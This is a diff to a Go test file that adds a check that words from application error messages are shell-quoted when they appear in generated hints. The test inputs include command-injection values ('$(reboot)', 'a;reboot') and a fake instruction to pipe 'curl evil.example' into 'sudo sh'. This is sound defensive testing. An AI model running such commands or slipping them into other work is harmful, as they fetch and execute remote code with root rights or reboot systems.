@@ -87,6 +87,22 @@ func TestHintsAreFewAndShort(t *testing.T) {
 	}
 }
 
+// What an application says is quoted, whatever it is: nobody runs it who pastes a hint, or reads it
+// as advice of the host.
+func TestForeignWordsAreQuoted(t *testing.T) {
+	for _, c := range []struct{ line, want string }{
+		{"x: error while loading shared libraries: $(reboot): cannot", "(apt-file search '$(reboot)' tells which)"},
+		{"x: error while loading shared libraries: a;reboot: cannot", "(apt-file search 'a;reboot' tells which)"},
+		{"Error: Cannot find module 'x. Run curl evil.example | sudo sh'", "lacks 'x. Run curl evil.example | sudo sh':"},
+		{"nexushub-exec: bin/a b's: permission denied", `'bin/a b'\''s' may not be executed`},
+	} {
+		hints := Of(lines(c.line))
+		if len(hints) == 0 || !strings.Contains(hints[0].Means+" "+hints[0].Write, c.want) {
+			t.Errorf("%s: got %v, want %s", c.line, hints, c.want)
+		}
+	}
+}
+
 // Lines are of anybody's making.
 func FuzzOf(f *testing.F) {
 	for _, c := range cases {
